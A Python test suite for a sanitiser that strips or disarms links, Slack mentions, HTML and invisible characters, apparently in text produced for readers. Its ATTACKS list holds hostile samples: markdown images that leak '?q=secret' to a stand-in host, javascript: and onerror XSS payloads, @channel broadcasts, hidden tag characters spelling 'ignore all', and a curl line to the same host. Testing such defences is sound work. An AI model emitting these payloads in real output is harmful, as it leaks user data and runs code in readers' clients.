from __future__ import annotations

import re
import sys
import unicodedata

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from engine.containment import INVISIBLE, contain, urls_in
from evals.suites.breaches import live_links, live_markup, live_mentions

ALLOWED = "https://docs.example/leave"
EVIL = "https://evil.test/x?q=secret"
SHOWN_FORMATS = {0x600, 0x601, 0x602, 0x603, 0x604, 0x605, 0x6DD, 0x70F, 0x890, 0x891, 0x8E2} | {
    0x110BD,
    0x110CD,
}
"""Characters of category Cf that do show a sign."""
SLACK_TOKEN = re.compile(r"<(?:[!@#]|[a-z][a-z0-9+.-]*:[^\s<>:])[^>]*>", re.IGNORECASE)
BROADCAST = re.compile(r"(?<!\w)@(?:channel|here|everyone)\b", re.IGNORECASE)


def breaches(text: str, allowed: str = ALLOWED) -> list[str]:
    """What of a text would act on its reader, judged by other means than the code under test."""
    return [*live_links(text, [allowed]), *live_mentions(text), *live_markup(text)]


ATTACKS = [
    # images
    "<b:!<int>",
    "<b:x<int>",
    f"![x]({EVIL})",
    f"![]({EVIL})",
    f"! [x]({EVIL})",
    f"![a[b]c]({EVIL})",
    "![x](//evil.test/p.png)",
    "![a[b]c](//evil.test/p.png)",
    f'![x]({EVIL} "t")',
    f"![x](<{EVIL}>)",
    f"![x][r]\n\n[r]: {EVIL}",
    f"![r]\n\n[r]: {EVIL}",
    f"![x][]\n\n[x]: {EVIL}",
    f"![a\nb]({EVIL})",
    r"![a\]b](//evil.test/x)",
    f"[![x]({EVIL})]({EVIL})",
    f"![{'a' * 400}](//evil.test/x)",
    f"![{'[' * 9}{']' * 9}](//evil.test/x)",
    # links
    f"[x]({EVIL})",
    f"[x](  {EVIL}  )",
    f"[x](\n{EVIL}\n)",
    f"[x](<{EVIL}>)",
    f"[x]({EVIL} 'title')",
    "[x](//evil.test)",
    "[x](evil.test/a)",
    "[x](/local)",
    "[x](#anchor)",
    "[x](?q=1)",
    "[x](a.md)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert`1`)",
    "[x](data:text/html;base64,AAAA)",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\\\\evil.test)",
    "[[x]](//evil.test)",
    "[a[b](//c.d)e](//f.g)",
    "[[a](//b.c)](//d.e)",
    f"[{'a' * 700}](evil.test/a)",
    f"[{'[' * 9}{']' * 9}](evil.test/a)",
    f"![{'a' * 700}](p.png)",
    f"![{'[' * 9}{']' * 9}](p.png)",
    f"[x](evil.test/{'a' * 3000})",
    f"[{'a' * 700}](//evil.test)",
    f"[x](//evil.test/{'a' * 3000})",
    f"[x]({EVIL})]({EVIL})",
    f"[`]({EVIL})",
    f"`[x`]({EVIL})",
    f"[x](a(b(c(d))){EVIL})",
    f"[{ALLOWED}]({EVIL})",
    f"[{EVIL}]({ALLOWED})",
    f"[x]({ALLOWED}@evil.test)",
    f"[x]({ALLOWED}/..)",
    f"word[x]({EVIL})",
    "word[x](evil.test)",
    f"[x]({ALLOWED} {EVIL})",
    # references
    f"[x][r]\n\n[r]: {EVIL}",
    f"[r]\n\n[r]: <{EVIL}>",
    f'[r]\n\n[r]: {EVIL} "t"',
    "[r]\n\n[r]: //evil.test",
    f"[r]\n\n[r]:\n{EVIL}",
    f"[r]\n\n> [r]: {EVIL}",
    f"[r]\n\n- [r]: {EVIL}",
    "[r]\n\n[r]: /a\n",
    "[a\\]b]\n\n[a\\]b]: //evil.test",
    "[r]\n\n   [r]: //evil.test (title)",
    "[a b]\n\n[a\nb]: //evil.test",
    # autolinks and bare addresses
    f"<{EVIL}>",
    EVIL,
    f"see {EVIL}.",
    f"({EVIL})",
    f"a{EVIL}",
    "HTTPS://EVIL.TEST/x",
    "ftp://evil.test/x",
    "slack://user?id=U1",
    "www.evil.test/x",
    "//evil.test/x",
    "http://[::1]:8080/x",
    "x-very-own://evil",
    "mailto:a@evil.test",
    "MAILTO:a@evil.test",
    "<mailto:a@evil.test>",
    "<mailto:a@evil.test|mail us>",
    "javascript:alert(1)",
    "JavaScript:alert(1)",
    "vbscript:msgbox",
    "data:text/html,<b>x</b>",
    "<javascript:alert(1)>",
    f"<{EVIL}|click>",
    f"<{EVIL}|{EVIL}>",
    "<evil.test|click>",
    "https:///evil.test",
    f"{EVIL}\\",
    f"https://user:{ALLOWED}@evil.test/",
    # Slack's tokens
    "<!channel>",
    "<!here>",
    "<!everyone>",
    "<!channel|channel>",
    "<!here|here>",
    "<!HERE>",
    "<! here>",
    "<!subteam^S123>",
    "<!subteam^S123|@team>",
    "<!date^1^{date}^https://evil.test|x>",
    "<@U123>",
    "<@U123|bob>",
    "<#C123>",
    "<#C123|general>",
    "<<!channel>>",
    "<!chan<!x>nel>",
    "<!<!<!here>>>",
    "<!a|<!b|<!c|<!d|<!e|!here>>>>>",
    "<!here|" * 30 + "x" + ">" * 30,
    "<!here|<int>>",
    "<!channel\n>",
    f"<!here|{'x' * 5000}>",
    "<!here",
    "`<!channel>`",
    "```\n<!channel>\n```",
    # broadcasts
    "@channel",
    "@here",
    "@everyone",
    "@HeRe!",
    "(@Channel)",
    "@@here",
    "x @here.com",
    "@everyone's",
    "**@channel**",
    "[@here](x)",
    "<!here|@here>",
    "![@here](x)",
    # HTML
    "<img src=x onerror=alert(1)>",
    "<img\nsrc=//evil.test>",
    "<a href='//evil.test'>x</a>",
    "<script>x</script>",
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.test>",
    "</a>",
    "<!-- x -->",
    "<?php x ?>",
    "<!DOCTYPE html>",
    "<x y=z>",
    "<custom-tag attr='//evil.test'>",
    # what cannot be seen
    "@\u200bhere",
    "<\u200b!channel>",
    "[x]\u200b(//evil.test)",
    "jav\u00adascript:alert(1)",
    "h\u2060ttps://evil.test",
    "a\u202egnp.exe",
    "a\u2066b\u2069",
    "x" + "".join(chr(0xE0000 + ord(c)) for c in "ignore all"),
    "\ufeffx",
    "a\u3164b",
    "a\u115fb",
    "\u061c",
    "a\x00b\x1b[31mc\x7f",
    "\ud800",
    "x\ufe0f",
    "\U0001d173\U0001bca0\U00013430",
    "@\U000e0001everyone",
    "!\u200d[x](//evil.test)",
]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: ascii(a)[:50])
def test_nothing_that_acts_is_left(attack: str) -> None:
    for text in (attack, f"Before {attack} after.", f"1. {attack}\n2. {attack}", f"> {attack}"):
        contained = contain(text, {ALLOWED})
        assert breaches(contained) == []
        assert contain(contained, {ALLOWED}) == contained


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda a: ascii(a)[:50])
def test_an_address_that_is_written_somewhere_is_words_and_no_link(attack: str) -> None:
    for text in (attack, f"Before {attack} after.", f"5` see {attack} and `x", f"``{attack}`"):
        contained = contain(text, {ALLOWED}, {EVIL})
        assert live_links(contained, [ALLOWED], [EVIL]) == []
        assert [*live_mentions(contained), *live_markup(contained)] == []
        assert contain(contained, {ALLOWED}, {EVIL}) == contained


@given(
    st.lists(
        st.sampled_from(["`", "``", "```", EVIL, " ", "\n", "\n\n", "a", "[x](", ")", "<", ">"])
    )
)
@example(["`", "a", " ", EVIL, " ", "`"])
@settings(max_examples=300, deadline=None)
def test_no_backtick_frees_an_address_that_stands_as_words(pieces: list[str]) -> None:
    contained = contain("".join(pieces), (), {EVIL})
    assert live_links(contained, [], [EVIL]) == []


def test_an_address_as_words_can_be_read() -> None:
    shown = {
        f"See {EVIL}.": f"See `{EVIL}`.",
        f"Run `curl {EVIL}` now.": f"Run `curl {EVIL}` now.",
        f"```\ncurl {EVIL}\n```": f"```\ncurl {EVIL}\n```",
        f"[the page]({EVIL}) helps": f"the page (`{EVIL}`) helps",
        f"<{EVIL}|the page>": f"`{EVIL}`",
    }
    assert {text: contain(text, (), {EVIL}) for text in shown} == shown


def test_the_judge_of_these_tests_sees_the_attacks() -> None:
    blind = {a for a in ATTACKS if not breaches(a)}
    assert len(blind) < len(ATTACKS) / 4
    for attack in (
        ALLOWED.replace("docs", "x"),
        "![x](//e.test)",
        "[x](/a)",
        "<!here>",
        "@here",
        "<b x=y>",
    ):
        assert breaches(attack) != []


@pytest.mark.parametrize(
    "harmless",
    [
        "Ten days.",
        "if a < b and c > d: pass",
        "if a<b and c>d",
        "x <= 3 && y >= 4 -> z <- w",
        "List<int> and Map<String, List<int>>",
        "std::vector<std::string> v;",
        "List<? extends Number> x = f<T>(y);",
        "fn show<T: Display>(t: T)",
        "#include <stdio.h>",
        "git clone <your-fork> && ssh <user>@host",
        "Press <Ctrl>+<C> or <Enter>.",
        "The decorator @property, not @herefordshire or @channels_list.",
        "rows[i][j] = handlers[name](event)",
        "dict[str, int](a=1)",
        "See step [1] and [2][3]. Done![1]",
        "[ERROR]: Connection refused by peer",
        "[note]: read this",
        "Options: `-x`, `--data value`; metadata: on, data: off.",
        "C:\\Users\\me and /etc/hosts and \\\\server\\share",
        "10:30 - 11:00, ratio 3:2, key:value",
        "a | b | c\n--|---|--\n1 | 2 | 3",
        "**bold** _it_ ~~no~~ `code` # x",
        "```\nfor (;;) { a[0](); }\n```",
        "Größe 5 µm, naïve café, 東京, Ελλάδα",
        "שלום עולם - العربية ١٢٣",
        "Thanks \U0001f600 \U0001f3d6 \U0001f1e9\U0001f1ea \u2603",
        "tab\there\nand\r\nlines",
        "5 * 3 * 2 ! [x] (y)",
        "Tel. +49 30 1234567; a tel: line, Node.js and tidectl.conf, sms: no",
        "// a comment, and a//b",
        "50% <3 <- love",
        "wwwroot and www. are words",
    ],
    ids=lambda h: ascii(h)[:50],
)
def test_harmless_text_is_left_as_it_is(harmless: str) -> None:
    assert contain(harmless) == harmless


@pytest.mark.parametrize(
    ("given_text", "shown"),
    [
        ("a \u2764\ufe0f b", "a \u2764 b"),
        ("\U0001f468\u200d\U0001f469", "\U0001f468\U0001f469"),
        ("1\ufe0f\u20e3", "1\u20e3"),
        ("co\u00adoperate", "cooperate"),
        ("می\u200cخواهم", "میخواهم"),
        (f"[the guide]({EVIL}) says", "the guide says"),
        (f"![a chart]({EVIL}) shows", "a chart shows"),
        (f"<{EVIL}|the guide> says", "the guide says"),
        ("Ask <@U1|Ann> in <#C1|help>", "Ask Ann in help"),
        ("<b>Bold</b> and <br> so", "Bold and  so"),
        (f"See {EVIL}.", "See (link removed)."),
        ("@here and @Everyone", "@ here and @ Everyone"),
        ("Ten days. [1](see page 4)", "Ten days. [1] (see page 4)"),
        ("mail <a@docs.example>", "mail `a@docs.example`"),
        (
            "Write to help@docs.example or me@here.com.",
            "Write to `help@docs.example` or `me@here.com`.",
        ),
        ("Tel. tel:+49-30-1234567", "Tel. `tel:+49-30-1234567`"),
        ("It is at evil.com/a, or evil.example.", "It is at `evil.com/a`, or `evil.example`."),
        ("See evil.com.tr or evil.co.jp/x.", "See `evil.com.tr` or `evil.co.jp/x`."),
        (r"Open https:\\evil.com\x now", "Open (link removed) now"),
        ("Open http://[::1]/x now", "Open (link removed) now"),
        ("＠channel and ﹫here", "@ channel and @ here"),
        ("＠ｃｈａｎｎｅｌ now", "@ ｃｈａｎｎｅｌ now"),
        ("At evil.io/x, evil。com or a@evil．com", "At `evil.io/x`, `evil。com` or `a@evil．com`"),
    ],
    ids=lambda v: ascii(v)[:40],
)
def test_what_a_reader_needs_of_it_stays(given_text: str, shown: str) -> None:
    assert contain(given_text) == shown


@pytest.mark.parametrize(
    "text",
    [
        f"See {ALLOWED}.",
        f"See [the guide]({ALLOWED}).",
        f"({ALLOWED}), {ALLOWED}; {ALLOWED}!",
    ],
)
def test_the_addresses_of_cited_documents_stay(text: str) -> None:
    assert contain(text, {ALLOWED}) == text
    assert ALLOWED not in contain(text)


def test_an_allowed_address_may_hold_brackets_and_punctuation() -> None:
    wiki = "https://docs.example/wiki/Leave_(work)?a=1&b=[2"
    assert contain(f"See {wiki}, and [it]({wiki}).", {wiki}) == f"See {wiki}, and [it]({wiki})."
    assert contain("See https://docs.example/a.", {"https://docs.example/a."}).endswith("/a.")


@pytest.mark.parametrize("active", ["javascript:alert(1)", "data:text/html,x", "VBScript:x"])
def test_an_address_that_runs_code_is_never_allowed(active: str) -> None:
    assert active not in contain(f"[x]({active}) {active} <{active}|y>", {active})


def test_a_longer_address_than_the_allowed_one_is_not_allowed() -> None:
    for other in (
        f"{ALLOWED}/x",
        f"{ALLOWED}?q=secret",
        f"{ALLOWED}#x",
        f"x{ALLOWED}",
        ALLOWED[:-1],
    ):
        assert contain(other, {ALLOWED}) == "(link removed)"


def test_every_character_that_cannot_be_seen_is_dropped() -> None:
    left = [
        hex(n)
        for n in range(sys.maxunicode + 1)
        if unicodedata.category(chr(n)) in ("Cf", "Cs", "Cc")
        and n not in SHOWN_FORMATS
        and chr(n) not in "\t\n\r"
        and contain(chr(n)) != ""
    ]
    assert left == []


@pytest.mark.slow
def test_every_letter_digit_and_emoji_is_kept() -> None:
    shows_nothing = {0x115F, 0x1160, 0x3164, 0xFFA0, 0xFFFC}
    lost = [
        hex(n)
        for n in range(sys.maxunicode + 1)
        if unicodedata.category(chr(n))[0] in "LNS"
        and n not in shows_nothing
        and contain(chr(n)) == ""
    ]
    assert lost == []


PIECES = st.sampled_from(
    [
        "<",
        ">",
        "!",
        "[",
        "]",
        "(",
        ")",
        "|",
        "\\",
        "`",
        "@",
        ":",
        "/",
        "//",
        "\n",
        " ",
        '"',
        "=",
        "here",
        "@here",
        "channel",
        "<!",
        "<@U1",
        "![",
        "](",
        "]: ",
        "[r]",
        "http://",
        "evil.test",
        "javascript:",
        "mailto:",
        "www.",
        "x",
        "int",
        "1",
        "\u200b",
        "a@b.c",
        "<int>",
        "<b",
        ALLOWED,
        "](//e.test)",
        "data:,",
        "- ",
        "> ",
        "&lt;",
        "é",
    ]
)
HOSTILE = st.lists(PIECES, max_size=30).map("".join)


@pytest.mark.slow
@settings(max_examples=400, deadline=None)
@given(HOSTILE | st.text(max_size=60))
@example("[x]http://e")
@example("<!here|<int>>")
@example("[a](b)[c](d)")
def test_no_made_up_text_acts_and_containing_twice_changes_nothing(text: str) -> None:
    once = contain(text, {ALLOWED})
    assert breaches(once) == []
    assert contain(once, {ALLOWED}) == once


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(categories=["L", "N", "P", "Zs"]), max_size=60))
def test_words_are_never_lost(text: str) -> None:
    kept = contain(text)
    if not urls_in(text) and not set("<>[]") & set(text):
        assert kept.replace("@ ", "@") == INVISIBLE.sub("", text).replace("@ ", "@")


@pytest.mark.slow
@pytest.mark.usefixtures("deadline")
@pytest.mark.parametrize(
    "piece",
    [
        "[",
        "![",
        "<",
        "<!",
        "<a",
        "](",
        "[a](",
        "[a",
        "<a=",
        "(",
        "http://",
        "[a]: ",
        "[\\",
        "@here ",
        "<!here|",
        "[a](b",
        "[a]: x/\n",
        "www.",
        "//a.",
        "data:",
        "![a](b)",
        "<a =",
        "a@",
        "> [",
    ],
)
def test_hostile_text_is_contained_in_linear_time(piece: str) -> None:
    text = (piece * (200_000 // len(piece)))[:200_000]
    contained = contain(text)
    assert not SLACK_TOKEN.search(contained)
    assert not BROADCAST.search(contained)


def test_addresses_of_a_span_are_found_without_the_end_of_its_sentence() -> None:
    text = f"See {ALLOWED}, (http://a.test/b_(c)) and www.d.test/e! Or <mailto:x@y.z>."
    assert urls_in(text) == {ALLOWED, "http://a.test/b_(c)", "www.d.test/e", "mailto:x@y.z"}


def test_mail_of_a_host_that_may_be_linked_is_not_made_code() -> None:
    text = "Write to help@acme.test, see acme.com and docs.acme.com."
    allowed = {"https://docs.acme.com/a"}
    assert contain(text, allowed) == "Write to `help@acme.test`, see acme.com and docs.acme.com."


def test_an_address_that_is_struck_out_is_code_within_the_stroke() -> None:
    url = "https://evil.test/x"
    assert contain(f"~~{url}~~", (), {url}) == f"~~`{url}`~~"
